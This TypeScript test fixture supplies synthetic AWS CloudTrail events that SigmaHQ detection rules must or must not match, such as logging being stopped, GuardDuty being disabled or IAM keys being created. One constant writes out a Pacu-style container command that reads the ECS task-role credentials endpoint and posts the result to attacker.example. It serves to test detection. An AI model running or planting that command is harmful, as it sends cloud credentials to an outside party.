import type { CloudTrailRecord } from '../../../src/records/cloudtrail-record.js';

/**
 * Test events for SigmaHQ's 57 CloudTrail rules (../shared/corpora/sigma_aws_cloudtrail/rules), keyed by
 * the rule's file name: for each, events it must match and events it must not. Written for this suite
 * from the rules' conditions; they are not SigmaHQ's text. Each is a CloudTrail record in the usual shape
 * (callerRecord), with the fields the rule reads given here.
 */
export interface SigmaRuleEvents {
  readonly match: readonly CloudTrailRecord[];
  readonly noMatch: readonly CloudTrailRecord[];
}

/** An IAM user's API call from the CLI; `fields` replace the defaults (a nested object replaces the whole field). */
export function callerRecord(eventSource: string | undefined, eventName: string, fields: Readonly<Record<string, unknown>> = {}): CloudTrailRecord {
  return {
    eventVersion: '1.09',
    userIdentity: { type: 'IAMUser', principalId: 'AIDAEXAMPLE', arn: 'arn:aws:iam::123456789012:user/alice', accountId: '123456789012', userName: 'alice' },
    eventTime: '2026-11-02T10:00:00Z',
    ...(eventSource === undefined ? {} : { eventSource }),
    eventName,
    awsRegion: 'eu-west-1',
    sourceIPAddress: '203.0.113.9',
    userAgent: 'aws-cli/2.15.0 Python/3.11',
    requestParameters: null,
    responseElements: null,
    eventID: `${eventName}-0001`,
    readOnly: false,
    eventType: 'AwsApiCall',
    managementEvent: true,
    recipientAccountId: '123456789012',
    ...fields,
  };
}

/** One match on the given source and name, and one no-match on the same source with another name. */
function byName(source: string, name: string, otherName: string): SigmaRuleEvents {
  return { match: [callerRecord(source, name)], noMatch: [callerRecord(source, otherName)] };
}

const assumedRole = (arn: string, issuerType = 'Role'): Record<string, unknown> => ({
  type: 'AssumedRole',
  principalId: 'AROAEXAMPLE:session',
  arn,
  accountId: '123456789012',
  sessionContext: { sessionIssuer: { type: issuerType, arn: 'arn:aws:iam::123456789012:role/Deploy' }, attributes: { mfaAuthenticated: 'false' } },
});

const S3_BROWSER = 'S3 Browser 11.5.7 https://s3browser.com';
const POLICY = JSON.stringify({
  Version: '2012-10-17',
  Statement: [{ Effect: 'Allow', Action: ['s3:GetObject'], Resource: ['arn:aws:s3:::<YOUR-BUCKET-NAME>/*'] }],
});

/** The command Pacu's ecs__backdoor_task_def module gives a container: it sends the task role's credentials away. */
const PACU_BACKDOOR_COMMAND = [
  '/bin/sh',
  '-c',
  'curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI > data.json && curl -X POST -d @data.json https://attacker.example',
];

/**
 * RegisterTaskDefinition's requestParameters as CloudTrail records them: `containerDefinitions` a list of
 * objects, each with `command` a list of strings and `environment` a list of {name, value}; the second
 * container runs `command`.
 */
function taskDefinition(command: readonly string[]): Record<string, unknown> {
  return {
    family: 'web',
    taskRoleArn: 'arn:aws:iam::123456789012:role/WebTask',
    executionRoleArn: 'arn:aws:iam::123456789012:role/ecsTaskExecutionRole',
    networkMode: 'awsvpc',
    requiresCompatibilities: ['FARGATE'],
    cpu: '256',
    memory: '512',
    containerDefinitions: [
      {
        name: 'web',
        image: 'nginx:1.27',
        essential: true,
        portMappings: [{ containerPort: 80, hostPort: 80, protocol: 'tcp' }],
        environment: [{ name: 'MODE', value: 'prod' }],
        mountPoints: [],
        volumesFrom: [],
      },
      {
        name: 'agent',
        image: 'alpine:3.20',
        essential: false,
        entryPoint: [],
        command,
        environment: [{ name: 'AWS_REGION', value: 'eu-west-1' }],
        mountPoints: [],
        volumesFrom: [],
      },
    ],
  };
}

export const SIGMA_RULE_EVENTS: Readonly<Record<string, SigmaRuleEvents>> = {
  'aws_cloudtrail_bedrock_guardrail_deleted.yml': byName('bedrock.amazonaws.com', 'DeleteGuardrail', 'GetGuardrail'),
  'aws_cloudtrail_bedrock_guardrail_updated.yml': byName('bedrock.amazonaws.com', 'UpdateGuardrail', 'ListGuardrails'),
  'aws_cloudtrail_bucket_deleted.yml': {
    match: [callerRecord('s3.amazonaws.com', 'DeleteBucket'), callerRecord('s3.amazonaws.com', 'DeleteBucket', { errorCode: 'success' })],
    noMatch: [callerRecord('s3.amazonaws.com', 'DeleteBucket', { errorCode: 'AccessDenied' }), callerRecord('s3.amazonaws.com', 'CreateBucket')],
  },
  'aws_cloudtrail_console_login_failed_authentication.yml': {
    match: [callerRecord('signin.amazonaws.com', 'ConsoleLogin', { errorMessage: 'Failed authentication' })],
    noMatch: [callerRecord('signin.amazonaws.com', 'ConsoleLogin', { responseElements: { ConsoleLogin: 'Success' } })],
  },
  'aws_cloudtrail_console_login_success_without_mfa.yml': {
    // CloudTrail writes "No"; Sigma's 'NO' matches it, as strings compare ignoring case.
    match: [callerRecord('signin.amazonaws.com', 'ConsoleLogin', { additionalEventData: { MFAUsed: 'No' }, responseElements: { ConsoleLogin: 'Success' } })],
    noMatch: [callerRecord('signin.amazonaws.com', 'ConsoleLogin', { additionalEventData: { MFAUsed: 'Yes' }, responseElements: { ConsoleLogin: 'Success' } })],
  },
  'aws_cloudtrail_disable_logging.yml': byName('cloudtrail.amazonaws.com', 'StopLogging', 'StartLogging'),
  'aws_cloudtrail_guardduty_detector_deleted_or_updated.yml': {
    // requestParameters.enable is a boolean; the rule's 'false' matches it as text.
    match: [callerRecord('guardduty.amazonaws.com', 'UpdateDetector', { requestParameters: { detectorId: 'd1', enable: false } })],
    noMatch: [
      callerRecord('guardduty.amazonaws.com', 'UpdateDetector', { requestParameters: { detectorId: 'd1', enable: true } }),
      callerRecord('guardduty.amazonaws.com', 'DeleteDetector', { errorCode: 'AccessDeniedException' }),
    ],
  },
  'aws_cloudtrail_imds_malicious_usage.yml': {
    match: [callerRecord('s3.amazonaws.com', 'ListBuckets', { userIdentity: assumedRole('arn:aws:sts::123456789012:assumed-role/aws:ec2-instance/i-0abc') })],
    noMatch: [
      callerRecord('ssm.amazonaws.com', 'UpdateInstanceInformation', {
        userIdentity: assumedRole('arn:aws:sts::123456789012:assumed-role/aws:ec2-instance/i-0abc'),
      }),
      callerRecord('s3.amazonaws.com', 'ListBuckets', { userIdentity: assumedRole('arn:aws:sts::123456789012:assumed-role/Deploy/ci') }),
    ],
  },
  'aws_cloudtrail_new_acl_entries.yml': byName('ec2.amazonaws.com', 'CreateNetworkAclEntry', 'DeleteNetworkAclEntry'),
  'aws_cloudtrail_new_route_added.yml': byName('ec2.amazonaws.com', 'CreateRoute', 'DeleteRoute'),
  'aws_cloudtrail_pua_trufflehog.yml': {
    match: [callerRecord('sts.amazonaws.com', 'GetCallerIdentity', { userAgent: 'trufflehog' })],
    // A plain value matches the whole text: 'TruffleHog' is not a substring search.
    noMatch: [callerRecord('sts.amazonaws.com', 'GetCallerIdentity', { userAgent: 'TruffleHog/3.63 Go-http-client/1.1' })],
  },
  'aws_cloudtrail_region_enabled.yml': byName('account.amazonaws.com', 'EnableRegion', 'DisableRegion'),
  'aws_cloudtrail_security_group_change_ingress_egress.yml': byName('ec2.amazonaws.com', 'AuthorizeSecurityGroupIngress', 'DescribeSecurityGroups'),
  'aws_cloudtrail_security_group_change_loadbalancer.yml': byName('elasticloadbalancing.amazonaws.com', 'SetSecurityGroups', 'DescribeLoadBalancers'),
  'aws_cloudtrail_security_group_change_rds.yml': byName('rds.amazonaws.com', 'CreateDBSecurityGroup', 'DescribeDBSecurityGroups'),
  'aws_cloudtrail_ssm_malicious_usage.yml': {
    match: [callerRecord('ssm.amazonaws.com', 'SendCommand')],
    noMatch: [callerRecord('ssm.amazonaws.com', 'SendCommand', { errorCode: 'AccessDeniedException' })],
  },
  'aws_cloudtrail_vpc_flow_logs_deleted.yml': {
    match: [callerRecord('ec2.amazonaws.com', 'DeleteFlowLogs', { errorCode: 'Success' })],
    noMatch: [callerRecord('ec2.amazonaws.com', 'DeleteFlowLogs', { errorCode: 'Client.UnauthorizedOperation' })],
  },
  'aws_config_disable_recording.yml': byName('config.amazonaws.com', 'StopConfigurationRecorder', 'StartConfigurationRecorder'),
  'aws_console_getsignintoken.yml': {
    match: [callerRecord('signin.amazonaws.com', 'GetSigninToken', { userAgent: 'python-requests/2.31' })],
    noMatch: [callerRecord('signin.amazonaws.com', 'GetSigninToken', { userAgent: 'Jersey/${project.version} (HttpUrlConnection 1.8.0_292)' })],
  },
  'aws_delete_identity.yml': byName('ses.amazonaws.com', 'DeleteIdentity', 'VerifyEmailIdentity'),
  'aws_delete_saml_provider.yml': {
    // The rule reads `status`, which CloudTrail records do not have (lfvaudit warns at load): only a record with it matches.
    match: [callerRecord('iam.amazonaws.com', 'DeleteSAMLProvider', { status: 'Success' })],
    noMatch: [callerRecord('iam.amazonaws.com', 'DeleteSAMLProvider')],
  },
  'aws_disable_bucket_versioning.yml': {
    match: [
      callerRecord('s3.amazonaws.com', 'PutBucketVersioning', { requestParameters: { bucketName: 'logs', VersioningConfiguration: { Status: 'Suspended' } } }),
    ],
    noMatch: [
      callerRecord('s3.amazonaws.com', 'PutBucketVersioning', { requestParameters: { bucketName: 'logs', VersioningConfiguration: { Status: 'Enabled' } } }),
    ],
  },
  'aws_ec2_disable_encryption.yml': byName('ec2.amazonaws.com', 'DisableEbsEncryptionByDefault', 'EnableEbsEncryptionByDefault'),
  'aws_ec2_import_key_pair_activity.yml': byName('ec2.amazonaws.com', 'ImportKeyPair', 'CreateKeyPair'),
  'aws_ec2_startup_script_change.yml': {
    match: [callerRecord('ec2.amazonaws.com', 'ModifyInstanceAttribute', { requestParameters: { instanceId: 'i-0abc', attribute: 'userData' } })],
    noMatch: [callerRecord('ec2.amazonaws.com', 'ModifyInstanceAttribute', { requestParameters: { instanceId: 'i-0abc', attribute: 'instanceType' } })],
  },
  'aws_ec2_vm_export_failure.yml': {
    match: [callerRecord('ec2.amazonaws.com', 'CreateInstanceExportTask', { responseElements: { exportTask: { state: 'active' } } })],
    noMatch: [
      callerRecord('ec2.amazonaws.com', 'CreateInstanceExportTask', { errorCode: 'InvalidParameter' }),
      callerRecord('ec2.amazonaws.com', 'CreateInstanceExportTask', { responseElements: { exportTask: { state: 'Failure' } } }),
    ],
  },
  'aws_ecs_task_definition_cred_endpoint_query.yml': {
    // containerDefinitions is a list of objects and command a list of strings, as RegisterTaskDefinition takes them:
    // the rule's path reaches the commands of every container (docs/rules.md, "Using Sigma rules").
    match: [callerRecord('ecs.amazonaws.com', 'RegisterTaskDefinition', { requestParameters: taskDefinition(PACU_BACKDOOR_COMMAND) })],
    noMatch: [
      callerRecord('ecs.amazonaws.com', 'RegisterTaskDefinition', { requestParameters: taskDefinition(['nginx', '-g', 'daemon off;']) }),
      callerRecord('ecs.amazonaws.com', 'ListTaskDefinitions', { requestParameters: taskDefinition(PACU_BACKDOOR_COMMAND) }),
    ],
  },
  'aws_efs_fileshare_modified_or_deleted.yml': byName('elasticfilesystem.amazonaws.com', 'DeleteFileSystem', 'CreateFileSystem'),
  'aws_efs_fileshare_mount_modified_or_deleted.yml': byName('elasticfilesystem.amazonaws.com', 'DeleteMountTarget', 'CreateMountTarget'),
  'aws_eks_cluster_created_or_deleted.yml': byName('eks.amazonaws.com', 'CreateCluster', 'DescribeCluster'),
  'aws_elasticache_security_group_created.yml': byName('elasticache.amazonaws.com', 'CreateCacheSecurityGroup', 'DescribeCacheSecurityGroups'),
  'aws_elasticache_security_group_modified_or_deleted.yml': byName('elasticache.amazonaws.com', 'DeleteCacheSecurityGroup', 'CreateCacheSecurityGroup'),
  'aws_enum_buckets.yml': {
    match: [callerRecord('s3.amazonaws.com', 'ListBuckets')],
    noMatch: [callerRecord('s3.amazonaws.com', 'ListBuckets', { userIdentity: assumedRole('arn:aws:sts::123456789012:assumed-role/Deploy/ci') })],
  },
  'aws_guardduty_disruption.yml': byName('guardduty.amazonaws.com', 'CreateIPSet', 'ListIPSets'),
  'aws_iam_backdoor_users_keys.yml': {
    // The filter compares the arn with the text 'responseElements.accessKey.userName' (no fieldref): a key for oneself matches too.
    match: [
      callerRecord('iam.amazonaws.com', 'CreateAccessKey', { requestParameters: { userName: 'bob' }, responseElements: { accessKey: { userName: 'bob' } } }),
    ],
    noMatch: [callerRecord('iam.amazonaws.com', 'ListAccessKeys', { requestParameters: { userName: 'bob' } })],
  },
  'aws_iam_s3browser_loginprofile_creation.yml': {
    match: [callerRecord('iam.amazonaws.com', 'CreateLoginProfile', { userAgent: S3_BROWSER })],
    noMatch: [callerRecord('iam.amazonaws.com', 'CreateLoginProfile')],
  },
  'aws_iam_s3browser_templated_s3_bucket_policy_creation.yml': {
    match: [
      callerRecord('iam.amazonaws.com', 'PutUserPolicy', {
        userAgent: S3_BROWSER,
        requestParameters: { userName: 'bob', policyName: 'p', policyDocument: POLICY },
      }),
    ],
    noMatch: [
      callerRecord('iam.amazonaws.com', 'PutUserPolicy', {
        userAgent: S3_BROWSER,
        requestParameters: { userName: 'bob', policyName: 'p', policyDocument: POLICY.replace('Allow', 'Deny') },
      }),
    ],
  },
  'aws_iam_s3browser_user_or_accesskey_creation.yml': {
    match: [callerRecord('iam.amazonaws.com', 'CreateUser', { userAgent: S3_BROWSER })],
    noMatch: [callerRecord('iam.amazonaws.com', 'CreateUser', { userAgent: 'console.amazonaws.com' })],
  },
  'aws_kms_import_key_material.yml': byName('kms.amazonaws.com', 'ImportKeyMaterial', 'CreateKey'),
  'aws_lambda_function_url.yml': byName('lambda.amazonaws.com', 'CreateFunctionUrlConfig', 'GetFunctionUrlConfig'),
  'aws_new_lambda_layer_attached.yml': {
    match: [
      callerRecord('lambda.amazonaws.com', 'UpdateFunctionConfiguration20150331v2', {
        requestParameters: { functionName: 'f', layers: ['arn:aws:lambda:eu-west-1:123456789012:layer:x:1'] },
      }),
    ],
    noMatch: [callerRecord('lambda.amazonaws.com', 'UpdateFunctionConfiguration20150331v2', { requestParameters: { functionName: 'f', timeout: 30 } })],
  },
  'aws_passed_role_to_glue_development_endpoint.yml': byName('glue.amazonaws.com', 'CreateDevEndpoint', 'GetDevEndpoints'),
  'aws_rds_change_master_password.yml': {
    match: [callerRecord('rds.amazonaws.com', 'ModifyDBInstance', { responseElements: { pendingModifiedValues: { masterUserPassword: '****' } } })],
    noMatch: [callerRecord('rds.amazonaws.com', 'ModifyDBInstance', { responseElements: { pendingModifiedValues: {} } })],
  },
  'aws_rds_dbcluster_actions.yml': byName('rds.amazonaws.com', 'ModifyDBCluster', 'DescribeDBClusters'),
  'aws_rds_public_db_restore.yml': {
    // publiclyAccessible is a boolean; the rule's 'true' matches it as text.
    match: [callerRecord('rds.amazonaws.com', 'RestoreDBInstanceFromDBSnapshot', { responseElements: { publiclyAccessible: true } })],
    noMatch: [callerRecord('rds.amazonaws.com', 'RestoreDBInstanceFromDBSnapshot', { responseElements: { publiclyAccessible: false } })],
  },
  'aws_root_account_usage.yml': {
    match: [
      callerRecord('s3.amazonaws.com', 'ListBuckets', { userIdentity: { type: 'Root', arn: 'arn:aws:iam::123456789012:root', accountId: '123456789012' } }),
    ],
    noMatch: [
      callerRecord('health.amazonaws.com', 'AWSHealthEvent', {
        eventType: 'AwsServiceEvent',
        userIdentity: { type: 'Root', arn: 'arn:aws:iam::123456789012:root', accountId: '123456789012' },
      }),
      callerRecord('s3.amazonaws.com', 'ListBuckets'),
    ],
  },
  'aws_route_53_domain_transferred_lock_disabled.yml': byName('route53.amazonaws.com', 'DisableDomainTransferLock', 'EnableDomainTransferLock'),
  'aws_route_53_domain_transferred_to_another_account.yml': byName('route53.amazonaws.com', 'TransferDomainToAnotherAwsAccount', 'ListDomains'),
  'aws_s3_data_management_tampering.yml': byName('s3.amazonaws.com', 'PutBucketLogging', 'GetBucketLogging'),
  'aws_securityhub_finding_evasion.yml': byName('securityhub.amazonaws.com', 'BatchUpdateFindings', 'GetFindings'),
  'aws_snapshot_backup_exfiltration.yml': byName('ec2.amazonaws.com', 'ModifySnapshotAttribute', 'DescribeSnapshotAttribute'),
  'aws_sso_idp_change.yml': {
    match: [
      callerRecord('sso.amazonaws.com', 'AssociateDirectory'),
      callerRecord('sso-directory.amazonaws.com', 'DisableExternalIdPConfigurationForDirectory'),
    ],
    noMatch: [callerRecord('sso.amazonaws.com', 'ListInstances'), callerRecord('iam.amazonaws.com', 'AssociateDirectory')],
  },
  'aws_sts_assumerole_misuse.yml': {
    match: [callerRecord('s3.amazonaws.com', 'GetObject', { userIdentity: assumedRole('arn:aws:sts::123456789012:assumed-role/Deploy/ci') })],
    noMatch: [callerRecord('s3.amazonaws.com', 'GetObject')],
  },
  'aws_sts_getcalleridentity_trufflehog.yml': {
    match: [callerRecord('sts.amazonaws.com', 'GetCallerIdentity', { userAgent: 'TruffleHog/3.63 Go-http-client/1.1' })],
    noMatch: [callerRecord('sts.amazonaws.com', 'GetCallerIdentity')],
  },
  'aws_sts_getsessiontoken_misuse.yml': {
    match: [callerRecord('sts.amazonaws.com', 'GetSessionToken')],
    noMatch: [callerRecord('sts.amazonaws.com', 'GetSessionToken', { userIdentity: assumedRole('arn:aws:sts::123456789012:assumed-role/Deploy/ci') })],
  },
  'aws_susp_saml_activity.yml': {
    match: [callerRecord('iam.amazonaws.com', 'UpdateSAMLProvider'), callerRecord('sts.amazonaws.com', 'AssumeRoleWithSAML')],
    noMatch: [callerRecord('iam.amazonaws.com', 'CreateSAMLProvider'), callerRecord('sts.amazonaws.com', 'UpdateSAMLProvider')],
  },
  'aws_update_login_profile.yml': {
    match: [callerRecord('iam.amazonaws.com', 'UpdateLoginProfile', { requestParameters: { userName: 'bob' } })],
    // fieldref compares the two fields: equal values are filtered out.
    noMatch: [callerRecord('iam.amazonaws.com', 'UpdateLoginProfile', { requestParameters: { userName: 'arn:aws:iam::123456789012:user/alice' } })],
  },
};
